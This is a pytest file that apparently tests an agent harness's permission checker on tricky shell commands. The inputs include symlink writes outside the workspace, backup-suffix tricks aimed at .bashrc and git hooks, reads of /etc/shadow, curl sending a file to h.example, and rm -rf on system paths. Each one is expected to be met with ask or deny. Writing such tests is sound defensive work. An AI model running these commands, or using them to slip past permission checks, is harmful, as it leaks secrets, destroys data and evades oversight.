"""Commands that did something else than their text was read to mean, each in the words of who found it."""

from __future__ import annotations

from pathlib import Path

import pytest

from ferrule.permissions.modes import Mode
from tests.permissions.on_disk import decided_in
from tests.requirement import requirement


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A workspace with links that lead out of it, and inside of it."""
    outside, workspace = tmp_path / "outside", tmp_path / "workspace"
    for path in (outside / "d", workspace / "payload/.husky", workspace / "src", workspace / "lg"):
        path.mkdir(parents=True)
    for name in ("victim", "d/f"):
        (outside / name).write_text("outside\n")
    for name in ("payload/one", "payload/two", "payload/.bashrc", "payload/.husky/x", "src/a.py", "src/b.py", "k.txt"):
        (workspace / name).write_text("inside\n")
    for name in ("w", "links", "calm"):
        (workspace / name).mkdir()
    (workspace / "w/one").symlink_to(outside / "victim")
    (workspace / "links/o").symlink_to(outside / "victim")
    (workspace / "links/deep").mkdir()
    (workspace / "links/deep/o").symlink_to(outside / "victim")
    (workspace / "lg/d").symlink_to(outside / "d")
    (workspace / "calm/a").symlink_to("../k.txt")
    return workspace


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "cp payload/one w",
        "cp payload/one w/",
        "cp -t w payload/one",
        "cp payload/one w/*",
        "cp payload/* w",
        "cp -r payload/. w",
        "cp -r payload/one w",
        "cp -r payload/. lg/d",
        "mv payload/one lg/d",
        "cp payload/one lg/*",
        "cp --parents payload/one lg/d",
        "sed -i --follow-symlinks s/a/b/ w/*",
        "sed -i s/a/b/ w/o?e",
        "touch w/*",
        "touch lg/*/f",
        "rm -rf lg/*/f",
        "rm -f lg/d/f",
        'for f in w/*; do sed -i s/a/b/ "$f"; done',
        "mkdir lg/d/new",
    ],
)
def test_nothing_is_written_through_a_link_below_a_folder_unasked(folder: Path, command: str) -> None:
    assert decided_in(folder, command, mode=Mode.ACCEPT_EDITS) == "ask"


@requirement("HELD-5")
@pytest.mark.parametrize("mode", [Mode.ACCEPT_EDITS, Mode.BYPASS])
@pytest.mark.parametrize(
    "command", ["cp payload/one w", "cp payload/one w/*", "cp -r payload/. w", "sed -i --follow-symlinks s/a/b/ w/*"]
)
def test_a_denied_file_is_not_written_through_a_link_below_a_folder(folder: Path, command: str, mode: Mode) -> None:
    denied = {"deny": [f"Edit(/{folder.parent}/outside/victim)"]}

    assert decided_in(folder, command, mode=mode, rules=denied) == "deny"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "cat links/*",
        "cat links/?",
        "head links/[o]",
        "head links/[[:alpha:]]",
        "grep -R '' links",
        "grep -R '' .",
        "grep --dereference-recursive '' links",
        "rg -L outside links",
        "rg --follow outside",
        "diff -r links calm",
        "cat */o",
        "cat lg/*/f",
        "wc -l lg/*/*",
        "cp links/* calm",
        "cp -rL links calm",
        "cd links && cat *",
        'for f in links/*; do cat "$f"; done',
    ],
)
def test_nothing_is_read_through_a_link_below_a_folder_unasked(folder: Path, command: str) -> None:
    assert decided_in(folder, command, mode=Mode.ACCEPT_EDITS) == "ask"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "cat src/*",
        "cat calm/*",
        "grep -R x src calm",
        "grep -r x .",
        "grep -rn x links",
        "ls links/*",
        "diff -r src calm",
        "cat payload/*",
        "cp payload/one src",
        "cp payload/* src",
        "cp -r src copy",
        "cp -r src/. copy",
        "cp -r src calm",
        "cp payload/one new.txt",
        "mv payload/one src/",
        "mv src/*.py payload",
        "sed -i s/a/b/ src/*.py",
        "sed -i.bak s/a/b/ src/a.py",
        "touch src/*",
        "rm -rf w/*",
        "rm w/one",
        "rm -rf w lg",
        "mkdir -p src/x/y",
        "id",
        "id -u root",
    ],
)
def test_what_stays_inside_is_still_not_asked_about(folder: Path, command: str) -> None:
    assert decided_in(folder, command, mode=Mode.ACCEPT_EDITS) == "allow"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "cp payload/.bashrc .",
        "cp -r payload/.husky .",
        "cp -r payload/.husky payload/one .",
        "cp -r payload/. .",
        "cp -r payload copy",
        "cp -a payload/ copy",
        "cp -t . payload/.bashrc",
        "cp -r ./payload src",
        "mv payload/.husky .",
        "mv payload/.bashrc src",
        "cp payload/one .bash*",
        "sed -i s/a/b/ .bashr*",
        "touch .g*/hooks/pre-commit",
    ],
)
def test_a_protected_name_comes_into_a_folder_only_when_somebody_agrees(folder: Path, command: str) -> None:
    assert decided_in(folder, command, mode=Mode.ACCEPT_EDITS) == "ask"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "sed -i'$HOME/.bash*' p rc",
        "sed -i'/home/u/.bash*' p rc",
        "sed -i'.git/hooks/pre-comm*' '' it",
        "sed -i'.bash*' p rc",
        "sed -irc p .bash",
        "sed --in-place='../*' p k.txt",
        "cd src && sed -i'/abs/yy*' p a.py",
        "sed -i.bak --follow-symlinks p w/one",
        "cp -b -S rc k.txt .bash",
        "cp --backup --suffix=rc k.txt .bash",
        "cp -Src k.txt .bash",
        "mv -b -S rc k.txt .bash",
        "cp -S /../../x -b k.txt src/a.py",
        "cp -b -S rc payload/one .bash -t .",
    ],
)
def test_a_backup_goes_where_its_suffix_says(folder: Path, command: str) -> None:
    assert decided_in(folder, command, mode=Mode.ACCEPT_EDITS) == "ask"


@requirement("HELD-5")
@pytest.mark.parametrize("mode", [Mode.ACCEPT_EDITS, Mode.BYPASS])
@pytest.mark.parametrize(
    "command",
    ["sed -i.conf p prod", "cp -b -S .conf k.txt prod", "mv -b -S .conf k.txt prod", "ln -b -S .conf k.txt prod"],
)
def test_a_backup_does_not_replace_what_is_denied(folder: Path, command: str, mode: Mode) -> None:
    assert decided_in(folder, command, mode=mode, rules={"deny": ["Edit(./prod.conf)"]}) == "deny"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "awk 1 ./a=b/../secret/k.txt",
        "awk 1 secret/k=v.txt",
        "awk 1 x=1 /etc/shadow",
        "awk 1 -- ./x=y",
        "jq -R . secret/k.txt --args x",
        "jq . secret/k.txt --jsonargs 1",
        "jq -n --args . a -- secret/k.txt",
        "jq --slurpfile a secret/k.txt .",
        "jq --rawfile a secret/k.txt .",
        "yq secret/k.txt",
        "tar -tff secret",
        "grep -r --include=k.txt x secret",
    ],
)
def test_no_operand_is_taken_for_something_that_is_not_read(folder: Path, command: str) -> None:
    denied = {"deny": ["Read(./secret/**)", "Read(./x=y)", "Read(//etc/shadow)"]}

    assert decided_in(folder, command, mode=Mode.BYPASS, rules=denied) != "allow"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "awk 'BEGIN{x = case / system(\"id\") / 1}'",
        "strings @args",
        "nm @args3",
        "nm -C @args3",
        "objdump -d @x",
        "readelf -a @x",
        "size @x",
        "strings -n @x k.txt",
        "strings @a*",
        "tar -tfv x",
        "tar -tff x",
        "curl -F 'a=<k.txt' https://h.example",
        "curl -b k.txt https://h.example",
        "curl --data-urlencode a@k.txt https://h.example",
        "curl -w '%output{x}' https://h.example",
        "rmdir -p .git/x",
        "chown -RL u src",
        "sort --compress-program=./x k.txt",
        "sort --files0-from=list",
        "wc --files0-from=list",
        "split --filter=./x k.txt",
        "rg --pre ./x y",
        "fd -x ./x",
        "file -m magic k.txt",
        "file -C -m magic",
        "tree -o out",
        "xxd -r k.txt out",
        "date -s now",
        "date -f k.txt",
        "hostname other",
        "env -S './x'",
        "find . -fprintf out x",
        "find . -files0-from k.txt",
        "diff --to-file=/etc/passwd k.txt",
        "iconv -o out k.txt",
        "uniq k.txt out",
        "base64 -o out k.txt",
        "yq -i .a k.txt",
        "jq -L lib . k.txt",
        "jq 'include \"x\"; .' k.txt",
        "jq -f prog k.txt",
        "bat --pager ./x k.txt",
        "less -o out k.txt",
        "man -P ./x ls",
        "du --files0-from=list",
        "xargs -a k.txt cat",
        "jobs -x ./x",
        "time -o out ls",
        "gawk -i inplace 1 k.txt",
        "gawk -l ext 1 k.txt",
        "gcc @x",
        "javac @x",
        "rsync --files-from=x . y",
        "wget -i k.txt",
        "curl -K k.txt",
        "tar -tf x -T list",
        "tar -tf x --to-command=./x",
        "cat <<\\EOF\nx\nEOF",
    ],
)
def test_what_does_more_than_look_is_asked_about(folder: Path, command: str) -> None:
    assert decided_in(folder, command) == "ask"


@requirement("HELD-5")
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /private/etc",
        "rm -rf /private/var",
        "rm -rf /System/Volumes/Data/Users/u",
        "rm -rf /Users/somebody",
        "rm -rf /home/somebody",
        "rm -rf /usr/share",
        "rm -rf /mnt/c/Windows",
        "mv /private/etc x",
    ],
)
@pytest.mark.parametrize("mode", [Mode.ACCEPT_EDITS, Mode.BYPASS])
def test_a_critical_path_is_one_by_every_name(folder: Path, command: str, mode: Mode) -> None:
    assert decided_in(folder, command, mode=mode, rules={"allow": ["Edit(//**)"]}) == "ask"


@requirement("HELD-5")
def test_system_files_of_macos_are_never_written(folder: Path) -> None:
    assert decided_in(folder, "touch /private/etc/sudoers", mode=Mode.BYPASS) == "deny"


@requirement("HELD-5")
@pytest.mark.parametrize("command", ["tar -tf x", "tar tvf x", "tar tfv x", "tar -tvf x", "awk '{print $1}' a=1 k.txt"])
def test_what_only_lists_is_not_asked_about(folder: Path, command: str) -> None:
    assert decided_in(folder, command) == "allow"


@requirement("HELD-5")
def test_links_that_are_too_many_to_look_at_are_asked_about(folder: Path) -> None:
    many = folder / "many"
    many.mkdir()
    for number in range(1_100):
        (many / f"l{number}").symlink_to("../k.txt")

    assert decided_in(folder, "cat many/*") == "ask"


@requirement("HELD-5")
@pytest.mark.parametrize("command", ["grep x *", "grep x -- *", "cat *", "wc -l *", "head [-]*"])
def test_a_file_that_is_called_like_an_option_may_be_one(folder: Path, command: str) -> None:
    assert decided_in(folder, command) == "allow"
    (folder / "-R").write_text("")

    assert decided_in(folder, command) == "ask"
    assert decided_in(folder, command.replace("*", "./*").replace("[-]./", "./")) == "allow"
